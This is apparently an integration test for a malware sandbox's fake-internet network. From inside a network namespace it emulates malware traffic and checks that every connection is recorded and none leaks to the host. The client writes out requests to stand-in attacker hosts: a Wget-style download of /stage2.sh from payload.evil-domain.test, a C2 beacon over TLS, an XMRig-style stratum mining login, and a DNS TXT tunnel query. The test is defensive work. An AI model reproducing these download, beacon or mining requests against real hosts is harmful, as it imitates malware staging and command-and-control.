/**
 * The fake internet end to end, as root: a plain `unshare --net` process stands in for the
 * container (no runc needed). From inside it: DNS for made-up names, an HTTP download, a raw
 * TCP connect and a stratum login to a public-looking address, TLS with SNI, a UDP datagram, and
 * attempts to reach the host; then the same over IPv6 (AAAA answers, IPv6 literals, a resolver
 * dialled by its IPv6 address, the host's ::1). Meanwhile tcpdump in the host namespace must see
 * none of it.
 * Afterwards nothing may be left: no veth, no bridge, no namespace, no process.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { cleanupStaleFakenets, startFakeInternet, type FakeInternet } from '../src/sandbox/fakenet/index.js';
import { markedProcesses } from '../src/sandbox/fakenet/netns.js';
import { CHILD_MARKER } from '../src/sandbox/fakenet/protocol.js';
import type { NetworkEvent } from '../src/sandbox/types.js';
import { tempDir } from './support/tmp.js';

function missingTool(): string | null {
  for (const tool of ['unshare', 'nsenter', 'ip', 'iptables-restore', 'tcpdump', 'getent']) {
    try {
      execFileSync('sh', ['-c', `command -v ${tool}`], { stdio: 'ignore' });
    } catch {
      return tool;
    }
  }
  return null;
}

const isRoot = process.getuid?.() === 0;
const missing = isRoot ? missingTool() : null;
const skip = !isRoot
  ? 'needs root (network namespaces): run as root to test the fake internet'
  : missing
    ? `needs ${missing} (apt-get install tcpdump iptables iproute2)`
    : false;

const SUSPECT =
  /172\.17\.|198\.1[89]\.|203\.0\.113\.|evil-domain|example-mining|fd17:ac11|2001:2:|2606:4700:4700|2a01:4f8:|2001:db8:|2001:4860:4860|V6-LITERAL/i;

/** The host's own global IPv6 address (the sandbox must reach a fake one, not it), if it has one. */
function hostIpv6(): string | null {
  const out = execFileSync('ip', ['-6', '-o', 'addr', 'show', 'scope', 'global'], { encoding: 'utf8' });
  return /inet6 ([0-9a-f:]+)\//.exec(out)?.[1] ?? null;
}

function sleep(ms: number): Promise<void> {
  return new Promise((r) => setTimeout(r, ms));
}

async function poll(what: string, ok: () => boolean, ms = 5000): Promise<void> {
  const end = Date.now() + ms;
  while (!ok()) {
    if (Date.now() > end) assert.fail(`timed out waiting for ${what}`);
    await sleep(50);
  }
}

function hostLinks(): string {
  return execFileSync('ip', ['-br', 'link'], { encoding: 'utf8' })
    .split('\n')
    .map((l) => l.split(/\s+/)[0])
    .sort()
    .join(' ');
}

function netnsHolders(ns: string): number[] {
  const pids: number[] = [];
  for (const e of readdirSync('/proc')) {
    if (!/^\d+$/.test(e)) continue;
    try {
      if (readlinkSync(`/proc/${e}/ns/net`) === ns) pids.push(Number(e));
    } catch {
      // gone, or not ours to read
    }
  }
  return pids;
}

/** The client side, run by node inside the stand-in container's network namespace. */
const CLIENT = `
import dgram from 'node:dgram';
import net from 'node:net';
import tls from 'node:tls';
const [responder, hostPort, hostPort2, hostPort6, hostIp6, hostPort6g] = process.argv.slice(2);
const out = {};
function query(name, type, server = responder) {
  const labels = name.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
  const msg = Buffer.concat([Buffer.from([0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, type, 0, 1])]);
  return new Promise((resolve) => {
    const s = dgram.createSocket(net.isIPv6(server) ? 'udp6' : 'udp4');
    const t = setTimeout(() => { s.close(); resolve(null); }, 3000);
    s.on('message', (m) => { clearTimeout(t); s.close(); resolve(m); });
    s.on('error', (e) => { clearTimeout(t); s.close(); resolve(null); });
    s.send(msg, 53, server);
  });
}
/** The address in an answer's last record: A (4 bytes) or AAAA (16 bytes, as Node writes it). */
function answerIp(m, family = 4) {
  if (!m || m.readUInt16BE(6) !== 1) return null;
  if (family === 4) return [...m.subarray(-4)].join('.');
  const hex = m.subarray(-16).toString('hex').match(/.{4}/g).join(':');
  return new URL('http://[' + hex + ']/').hostname.slice(1, -1);
}
function tlsGet(host, servername) {
  return new Promise((resolve) => {
    let data = '';
    const t = tls.connect({ host, port: 443, servername, rejectUnauthorized: false }, () => {
      t.write('GET /beacon HTTP/1.1\\r\\nHost: ' + servername + '\\r\\n\\r\\n');
    });
    t.on('data', (d) => { data += d; });
    t.on('end', () => resolve({ data }));
    t.on('error', (e) => resolve({ error: e.code, data }));
    setTimeout(() => { t.destroy(); resolve({ data }); }, 3000);
  });
}
function tcp(host, port, payload, wait = 1500) {
  return new Promise((resolve) => {
    let data = '';
    const s = net.connect(port, host);
    const done = (r) => { clearTimeout(t); s.destroy(); resolve(r); };
    const t = setTimeout(() => done({ data }), wait);
    s.on('connect', () => payload && s.write(payload));
    s.on('data', (d) => { data += d; });
    s.on('end', () => done({ data }));
    s.on('error', (e) => done({ error: e.code }));
  });
}
const a = await query('pool.example-mining.test', 1);
out.aAnswers = a.readUInt16BE(6);
out.aIp = [...a.subarray(-4)].join('.');
const aaaa = await query('pool.example-mining.test', 28);
out.aaaaAnswers = aaaa.readUInt16BE(6);
const payloadIp = [...(await query('payload.evil-domain.test', 1)).subarray(-4)].join('.');
out.http = await tcp(payloadIp, 80, 'GET /stage2.sh HTTP/1.1\\r\\nHost: payload.evil-domain.test\\r\\nUser-Agent: Wget/1.21.3\\r\\n\\r\\n');
out.raw = await tcp('203.0.113.7', 3333, 'HELLO-FROM-HARDCODED-IP\\n');
out.stratum = await tcp('203.0.113.8', 4444, JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: '4' + 'A'.repeat(94), pass: 'x', agent: 'XMRig/6.21.0' } }) + '\\n', 800);
const c2Ip = [...(await query('c2.evil-domain.test', 1)).subarray(-4)].join('.');
out.tls = await tlsGet(c2Ip, 'c2.evil-domain.test');
await new Promise((resolve) => {
  const s = dgram.createSocket('udp4');
  s.send('hello-udp-datagram', 5555, '203.0.113.9', () => { s.close(); resolve(); });
});
out.tcpDns = await new Promise((resolve) => {
  const labels = 'tunnel.evil-domain.test'.split('.').flatMap((l) => [Buffer.from([l.length]), Buffer.from(l)]);
  const q = Buffer.concat([Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 16, 0, 1])]);
  const s = net.connect(53, '8.8.8.8', () => s.write(Buffer.concat([Buffer.from([0, q.length]), q])));
  let got = Buffer.alloc(0);
  s.on('data', (d) => { got = Buffer.concat([got, d]); if (got.length >= 2 && got.length >= 2 + got.readUInt16BE(0)) { s.destroy(); resolve({ id: got.readUInt16BE(2) }); } });
  s.on('error', (e) => resolve({ error: e.code }));
  setTimeout(() => { s.destroy(); resolve({ error: 'timeout' }); }, 3000);
});
out.hostLoopback = await tcp('127.0.0.1', Number(hostPort), 'should-never-arrive\\n');
out.hostEth0 = await tcp('192.0.2.2', Number(hostPort2), 'should-never-arrive-either\\n', 500);
// IPv6: a name's AAAA address (no Host header: the name must come from the address book), an
// arbitrary literal, TLS and stratum, UDP, a resolver dialled by its IPv6 address, the host.
out.aaaaIp = answerIp(await query('pool.example-mining.test', 28), 6);
out.aaaaSecond = answerIp(await query('payload6.evil-domain.test', 28), 6);
out.aaaaSecondA = answerIp(await query('payload6.evil-domain.test', 1));
out.http6 = await tcp(out.aaaaSecond, 80, 'GET /stage3.sh HTTP/1.0\\r\\n\\r\\n');
out.literal6 = await tcp('2606:4700:4700::1111', 8080, 'GET /V6-LITERAL HTTP/1.1\\r\\nHost: [2606:4700:4700::1111]:8080\\r\\n\\r\\n');
out.tls6 = await tlsGet(answerIp(await query('c2v6.evil-domain.test', 28), 6), 'c2v6.evil-domain.test');
out.stratum6 = await tcp('2a01:4f8::5', 3333, JSON.stringify({ id: 7, method: 'mining.subscribe', params: [] }) + '\\n', 800);
await new Promise((resolve) => {
  const s = dgram.createSocket('udp6');
  s.send('hello-udp6-V6-LITERAL', 5555, '2001:db8::9', () => { s.close(); resolve(); });
});
out.dns6Id = (await query('v6resolver.evil-domain.test', 1, '2001:4860:4860::8888'))?.readUInt16BE(0) ?? null;
out.hostLoopback6 = await tcp('::1', Number(hostPort6), 'should-never-arrive-v6\\n');
if (hostIp6) out.hostGlobal6 = await tcp(hostIp6, Number(hostPort6g), 'should-never-arrive-v6-either\\n', 500);
console.log(JSON.stringify(out));
`;

let fake: FakeInternet | null = null;
let holder: ChildProcess | null = null;
let tcpdump: ChildProcess | null = null;
const hostServers: Server[] = [];
let hostHits = 0;

after(async () => {
  await fake?.stop();
  holder?.kill('SIGKILL');
  tcpdump?.kill('SIGKILL');
  for (const s of hostServers) s.close();
});

async function hostServer(host: string): Promise<number> {
  const s = createServer((sock) => {
    hostHits++;
    sock.destroy();
  });
  hostServers.push(s);
  await new Promise<void>((r) => s.listen(0, host, r));
  const addr = s.address();
  return typeof addr === 'object' && addr ? addr.port : 0;
}

function startHolder(): Promise<ChildProcess> {
  const p = spawn('unshare', ['--net', 'sleep', '120'], { stdio: 'ignore' });
  return poll('the stand-in container', () => {
    try {
      return (
        p.pid !== undefined && readlinkSync(`/proc/${p.pid}/ns/net`) !== readlinkSync('/proc/self/ns/net')
      );
    } catch {
      return false;
    }
  }).then(() => p);
}

function inContainer(pid: number, args: string[], timeout = 20_000): string {
  return execFileSync('nsenter', [`--net=/proc/${pid}/ns/net`, ...args], { encoding: 'utf8', timeout });
}

function isV4(ip: string | null): boolean {
  return ip !== null && !ip.includes(':');
}

function byKind(events: NetworkEvent[], kind: NetworkEvent['kind']): NetworkEvent[] {
  return events.filter((e) => e.kind === kind);
}

before(() => {
  if (!skip) cleanupStaleFakenets();
});

test(
  'fake internet: answers and records everything, leaks nothing, leaves nothing',
  { skip, timeout: 120_000 },
  async (t) => {
    const dir = tempDir('shipshape-fakenet-');
    const linksBefore = hostLinks();
    const pcap = join(dir, 'host.pcap');
    tcpdump = spawn('tcpdump', ['-i', 'any', '-n', '-U', '--immediate-mode', '-w', pcap, 'not port 22'], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let tcpdumpErr = '';
    tcpdump.stderr?.on('data', (d: Buffer) => (tcpdumpErr += d.toString()));
    await poll('tcpdump to listen', () => tcpdumpErr.includes('listening on'));

    const t0 = performance.now();
    fake = await startFakeInternet({ workDir: dir });
    const t1 = performance.now();
    holder = await startHolder();
    const hpid = holder.pid as number;
    const t2 = performance.now();
    await fake.attach(hpid);
    const t3 = performance.now();
    t.diagnostic(`start ${(t1 - t0).toFixed(0)} ms, attach ${(t3 - t2).toFixed(0)} ms`);

    assert.equal(fake.responderIp, '172.17.0.1', 'responder address');
    assert.match(
      execFileSync('cat', [fake.resolvConfPath], { encoding: 'utf8' }),
      /^nameserver 172\.17\.0\.1$/m,
      'resolv.conf',
    );
    assert.match(
      execFileSync('cat', [fake.hostsPath], { encoding: 'utf8' }),
      /127\.0\.0\.1\s+localhost/,
      'hosts',
    );
    assert.equal(hostLinks(), linksBefore, 'nothing new in the host namespace');
    assert.match(
      inContainer(hpid, ['ip', '-br', 'addr']),
      /eth0\S*\s+UP\s+172\.17\.0\.2\/16 fd17:ac11::2\/64/,
      'container eth0, both families',
    );
    assert.equal(fake.responderIp6, 'fd17:ac11::1', 'IPv6 is on in the sandbox');
    assert.ok(
      !fake.warnings().some((w) => /IPv6/.test(w)),
      `no IPv6 fallback warning: ${fake.warnings().join('; ')}`,
    );
    assert.match(
      inContainer(hpid, ['ip', '-6', 'route', 'show', 'default']),
      /^default via fd17:ac11::1 dev eth0/,
      'IPv6 default route to the responder',
    );

    await assert.rejects(
      fake.attach(process.pid),
      /not in a network namespace of its own/,
      'refuses the host namespace',
    );
    await assert.rejects(fake.attach(hpid), /already attached/, 'refuses a second attach of one namespace');

    const hostPort = await hostServer('127.0.0.1');
    const hostPort2 = await hostServer('0.0.0.0');
    const hostPort6 = await hostServer('::1');
    const hostIp6 = hostIpv6();
    const hostPort6g = await hostServer('::');
    const client = join(dir, 'client.mjs');
    writeFileSync(client, CLIENT);
    const args = [hostPort, hostPort2, hostPort6, hostIp6 ?? '', hostPort6g].map(String);
    const out = JSON.parse(
      inContainer(hpid, [process.execPath, client, fake.responderIp, ...args]),
    ) as Record<string, { data?: string; error?: string } & Record<string, unknown>>;

    // getent through glibc, with our resolv.conf mounted over the real one in a private mount ns.
    const getent = inContainer(hpid, [
      'unshare',
      '--mount',
      'sh',
      '-c',
      `mount --bind ${fake.resolvConfPath} /etc/resolv.conf && getent ahosts some-made-up.evil-domain.test`,
    ]);
    // getaddrinfo asks A and AAAA; with a ULA source it ranks IPv4 first (RFC 6724 rule 5), as under Docker.
    assert.match(
      getent,
      /^198\.1[89]\.\d+\.\d+\s+STREAM some-made-up\.evil-domain\.test/,
      'getent resolves any name, IPv4 first',
    );
    assert.match(getent, /^2001:2::c61[23]:[0-9a-f]+\s+STREAM/m, 'and IPv6 too');

    assert.equal(out.aAnswers, 1, 'A answered');
    assert.match(String(out.aIp), /^198\.18\./, 'A answer from the fake pool');
    assert.equal(out.aaaaAnswers, 1, 'AAAA answered');
    assert.match(
      out.http?.data ?? '',
      /^HTTP\/1\.1 200 OK[\s\S]*#!\/bin\/sh\necho shipshape-fake-payload\n$/,
      'fake script',
    );
    assert.match(out.stratum?.data ?? '', /"job_id":"1"/, 'stratum job');
    assert.match(out.tls?.data ?? '', /shipshape-fake-payload/, 'HTTPS answered after the TLS handshake');
    assert.equal(out.tcpDns?.id, 0x1234, 'DNS over TCP to a hard-coded resolver answered');
    assert.equal(out.hostLoopback?.error, 'ECONNREFUSED', 'host loopback unreachable');
    assert.equal(out.hostEth0?.error, undefined, 'the host address is caught by the fake internet');
    assert.equal(out.aaaaIp, '2001:2::c612:1', 'AAAA: the A address inside 2001:2::/48');
    assert.match(String(out.aaaaSecond), /^2001:2::c612:[0-9a-f]+$/, 'AAAA of a second name in range');
    assert.notEqual(out.aaaaSecond, out.aaaaIp, 'AAAA unique per name');
    assert.equal(
      String(out.aaaaSecond)
        .split(':')
        .slice(-2)
        .map((g) => parseInt(g, 16))
        .flatMap((g) => [g >> 8, g & 0xff])
        .join('.'),
      out.aaaaSecondA,
      'the same name book: AAAA carries the A address',
    );
    for (const [key, what] of [
      ['http6', "HTTP to a name's AAAA address"],
      ['literal6', 'HTTP to an IPv6 literal'],
    ] as const)
      assert.match(
        out[key]?.data ?? '',
        /^HTTP\/1\.1 200 OK[\s\S]*shipshape-fake-payload/,
        `${what} answered`,
      );
    assert.match(
      out.tls6?.data ?? '',
      /shipshape-fake-payload/,
      'HTTPS over IPv6 answered after the handshake',
    );
    assert.match(out.stratum6?.data ?? '', /mining\.notify/, 'stratum over IPv6 answered');
    assert.equal(out.dns6Id, 0xabcd, 'DNS to a resolver dialled by its IPv6 address answered');
    assert.equal(out.hostLoopback6?.error, 'ECONNREFUSED', "the host's ::1 unreachable");
    if (hostIp6)
      assert.equal(
        out.hostGlobal6?.error,
        undefined,
        "the host's IPv6 address is caught by the fake internet",
      );
    else t.diagnostic('the host has no global IPv6 address: that part is not tried');
    assert.equal(hostHits, 0, 'no host service saw a connection');

    const responder = markedProcesses(CHILD_MARKER).find((p) => p.ownerPid === process.pid);
    assert.ok(responder, 'responder process found');
    const responderNetns = readlinkSync(`/proc/${responder.pid}/ns/net`);
    const t4 = performance.now();
    await fake.stop();
    const t5 = performance.now();
    t.diagnostic(`stop ${(t5 - t4).toFixed(0)} ms`);
    const events = fake.events();
    const find = (kind: NetworkEvent['kind'], pred: (e: NetworkEvent) => boolean) =>
      byKind(events, kind).find(pred);

    assert.ok(
      find('dns', (e) => e.host === 'pool.example-mining.test' && e.detail === 'A'),
      'DNS A recorded',
    );
    assert.ok(
      find('dns', (e) => e.host === 'pool.example-mining.test' && e.detail === 'AAAA'),
      'DNS AAAA recorded',
    );
    assert.ok(
      find('dns', (e) => e.host === 'some-made-up.evil-domain.test'),
      'getent query recorded',
    );
    const tunnel = find('dns', (e) => e.host === 'tunnel.evil-domain.test');
    assert.equal(tunnel?.detail, 'TXT', 'TXT over TCP recorded');
    assert.equal(tunnel?.ip, '8.8.8.8', 'the resolver the sample really asked');
    const http = find('http', (e) => e.port === 80);
    assert.equal(http?.host, 'payload.evil-domain.test', 'HTTP Host');
    assert.equal(http?.detail, 'GET /stage2.sh ua=Wget/1.21.3', 'HTTP method, path, user agent');
    assert.match(http?.ip ?? '', /^198\.18\./, 'HTTP destination');
    const raw = find('tcp', (e) => e.ip === '203.0.113.7');
    assert.equal(raw?.port, 3333, 'raw TCP destination port');
    assert.equal(raw?.firstBytes, 'HELLO-FROM-HARDCODED-IP\\n', 'raw TCP first bytes');
    const stratum = find('tcp', (e) => e.ip === '203.0.113.8');
    assert.equal(stratum?.port, 4444, 'stratum port');
    assert.equal(stratum?.detail, 'stratum login', 'stratum detail');
    assert.ok(stratum?.firstBytes.includes('"method":"login"'), 'stratum first bytes');
    const tls = find('tls', (e) => isV4(e.ip));
    assert.equal(tls?.host, 'c2.evil-domain.test', 'SNI');
    assert.equal(tls?.port, 443, 'TLS port');
    const https = find('http', (e) => e.port === 443 && isV4(e.ip));
    assert.equal(https?.detail, 'GET /beacon', 'HTTPS request recorded');
    const udp = find('udp', (e) => isV4(e.ip));
    assert.equal(udp?.ip, '203.0.113.9', 'UDP destination');
    assert.equal(udp?.port, 5555, 'UDP port');
    assert.equal(udp?.firstBytes, 'hello-udp-datagram', 'UDP bytes');
    assert.ok(
      find('tcp', (e) => e.ip === '192.0.2.2' && e.port === hostPort2),
      'connect to the host address recorded',
    );
    assert.ok(!events.some((e) => e.ip === '127.0.0.1'), 'loopback never reached the responder');
    const http6 = find('http', (e) => e.ip === String(out.aaaaSecond));
    assert.equal(http6?.host, 'payload6.evil-domain.test', 'IPv6 connection attributed to its name');
    assert.equal(http6?.port, 80, 'IPv6 HTTP port');
    assert.equal(http6?.detail, 'GET /stage3.sh', 'IPv6 HTTP request');
    const literal6 = find('http', (e) => e.ip === '2606:4700:4700::1111');
    assert.equal(literal6?.port, 8080, 'IPv6 literal: port');
    assert.equal(literal6?.detail, 'GET /V6-LITERAL', 'IPv6 literal: request');
    assert.equal(find('tls', (e) => e.host === 'c2v6.evil-domain.test')?.port, 443, 'SNI over IPv6');
    const stratum6 = find('tcp', (e) => e.ip === '2a01:4f8::5');
    assert.equal(stratum6?.detail, 'stratum mining.subscribe', 'stratum over IPv6 recorded');
    const udp6 = find('udp', (e) => e.ip === '2001:db8::9');
    assert.equal(udp6?.port, 5555, 'UDP over IPv6: port');
    assert.equal(udp6?.firstBytes, 'hello-udp6-V6-LITERAL', 'UDP over IPv6: bytes');
    const dns6 = find('dns', (e) => e.host === 'v6resolver.evil-domain.test');
    assert.equal(dns6?.ip, '2001:4860:4860::8888', 'the IPv6 resolver the sample really asked');
    assert.ok(
      find('dns', (e) => e.host === 'payload6.evil-domain.test' && e.detail === 'AAAA'),
      'AAAA query recorded with its type',
    );
    assert.ok(!events.some((e) => e.ip === '::1'), 'the host ::1 never reached the responder');
    if (hostIp6)
      assert.ok(
        find('tcp', (e) => e.ip === hostIp6 && e.port === hostPort6g),
        'connect to the host IPv6 address recorded',
      );
    assert.ok(
      events.every((e) => e.firstBytes.length <= 512),
      'first bytes bounded',
    );

    // Nothing left behind.
    await stopAndCheckGone(hpid, linksBefore);
    await poll('the responder namespace to be unused', () => netnsHolders(responderNetns).length === 0);
    await fake.stop(); // idempotent

    // Leak check: the host namespace saw no packet of the sandbox (positive control first).
    execFileSync(process.execPath, [
      '-e',
      "const s = require('dgram').createSocket('udp4'); s.send('control 203.0.113.250', 5555, '127.0.0.1', () => s.close());" +
        "const s6 = require('dgram').createSocket('udp6'); s6.send('control6 2001:db8::250', 5555, '::1', () => s6.close());",
    ]);
    await sleep(300);
    tcpdump.kill('SIGINT');
    await new Promise((r) => tcpdump?.once('exit', r));
    const dump = execFileSync('tcpdump', ['-r', pcap, '-n', '-A'], {
      encoding: 'latin1',
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    assert.ok(dump.includes('control 203.0.113.250'), 'tcpdump saw the control packet');
    assert.ok(dump.includes('control6 2001:db8::250'), 'tcpdump saw the IPv6 control packet');
    const leaks = dump.split('\n').filter((l) => SUSPECT.test(l) && !/control6? /.test(l));
    assert.deepEqual(leaks, [], 'no sandbox packet in the host namespace');
    const ip6 = dump
      .split('\n')
      .filter((l) => / IP6 /.test(l) && !/\.5555: UDP|ICMP6, destination unreachable/.test(l));
    t.diagnostic(`IPv6 packets in the host namespace besides the control: ${ip6.length}`);
  },
);

async function stopAndCheckGone(hpid: number, linksBefore: string): Promise<void> {
  await poll(
    'the container veth to go',
    () => inContainer(hpid, ['ip', '-br', 'link']).trim().split('\n').length === 1,
  );
  assert.equal(hostLinks(), linksBefore, 'host links unchanged');
  assert.equal(
    markedProcesses(CHILD_MARKER).filter((p) => p.ownerPid === process.pid).length,
    0,
    'no responder process',
  );
}

test(
  'fake internet: a killed owner takes its responder and namespace along',
  { skip, timeout: 60_000 },
  async () => {
    const dir = tempDir('shipshape-fakenet-crash-');
    const script = join(dir, 'owner.mts');
    writeFileSync(
      script,
      `import { startFakeInternet } from ${JSON.stringify(fileURLToPath(new URL('../src/sandbox/fakenet/index.ts', import.meta.url)))};\n` +
        `await startFakeInternet({ workDir: ${JSON.stringify(dir)} });\nconsole.log('up');\nsetInterval(() => {}, 1000);\n`,
    );
    const owner = spawn(process.execPath, ['--import', 'tsx', script], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    let out = '';
    owner.stdout?.on('data', (d: Buffer) => (out += d.toString()));
    await poll('the owner to start its fake internet', () => out.includes('up'), 30_000);
    const responders = markedProcesses(CHILD_MARKER).filter((p) => p.ownerPid === owner.pid);
    assert.equal(responders.length, 1, 'one responder');
    const rpid = (responders[0] as { pid: number }).pid;
    const ns = readlinkSync(`/proc/${rpid}/ns/net`);
    owner.kill('SIGKILL');
    await poll('the orphaned responder to exit', () => !existsSync(`/proc/${rpid}`), 5000);
    await poll('its namespace to be unused', () => netnsHolders(ns).length === 0, 5000);
    assert.deepEqual(cleanupStaleFakenets().killed, [], 'nothing stale left to kill');
  },
);

test(
  'fake internet: where ip6tables fails, IPv6 stays off (fails closed) and AAAA is still answered',
  { skip, timeout: 60_000 },
  async () => {
    const dir = tempDir('shipshape-fakenet-nov6-');
    // A machine whose ip6tables cannot load its nat table: a stub that fails the way it would.
    const bin = join(dir, 'bin');
    mkdirSync(bin);
    writeFileSync(
      join(bin, 'ip6tables-restore'),
      "#!/bin/sh\necho \"ip6tables-restore v1.8.9 (nf_tables): Couldn't load target 'REDIRECT'\" >&2\nexit 1\n",
      { mode: 0o755 },
    );
    const path = process.env.PATH;
    process.env.PATH = `${bin}:${path ?? ''}`;
    let local: FakeInternet | null = null;
    let box: ChildProcess | null = null;
    try {
      local = await startFakeInternet({ workDir: dir });
      process.env.PATH = path;
      box = await startHolder();
      const pid = box.pid as number;
      await local.attach(pid);
      assert.equal(local.responderIp6, null, 'IPv6 reported off');
      assert.ok(
        local.warnings().some((w) => /IPv6 is off.*ip6tables-restore: .*REDIRECT/.test(w)),
        `the warning says why: ${local.warnings().join('; ')}`,
      );
      assert.equal(inContainer(pid, ['ip', '-6', 'route', 'show', 'default']).trim(), '', 'no IPv6 route');
      assert.doesNotMatch(inContainer(pid, ['ip', '-6', 'addr']), /fd17:ac11/, 'no ULA address');
      const probe = [
        "const d = require('dgram'), net = require('net');",
        "const q = Buffer.from('abcd0100000100000000000001610474657374' + '00001c0001', 'hex');", // a.test AAAA
        'setTimeout(() => { console.log("timeout"); process.exit(0); }, 3000);',
        "const s = d.createSocket('udp4'); s.on('message', (m) => { s.close();",
        "  const c = net.connect(80, '2001:2::c612:1'); c.on('connect', () => { console.log(m.readUInt16BE(6), 'connected'); process.exit(0); });",
        "  c.on('error', (e) => { console.log(m.readUInt16BE(6), e.code); process.exit(0); }); });",
        `s.send(q, 53, '${local.responderIp}');`,
      ].join('\n');
      assert.equal(
        inContainer(pid, [process.execPath, '-e', probe]).trim(),
        '1 ENETUNREACH',
        'AAAA answered, IPv6 connections fail',
      );
      const responder = markedProcesses(CHILD_MARKER).find((p) => p.ownerPid === process.pid);
      assert.ok(responder, 'responder process found');
      assert.equal(
        execFileSync(
          'nsenter',
          [`--net=/proc/${responder.pid}/ns/net`, 'sh', '-c', 'cat /proc/sys/net/ipv6/conf/all/disable_ipv6'],
          {
            encoding: 'utf8',
          },
        ).trim(),
        '1',
        'IPv6 disabled in the responder namespace',
      );
    } finally {
      process.env.PATH = path;
      await local?.stop();
      box?.kill('SIGKILL');
    }
  },
);
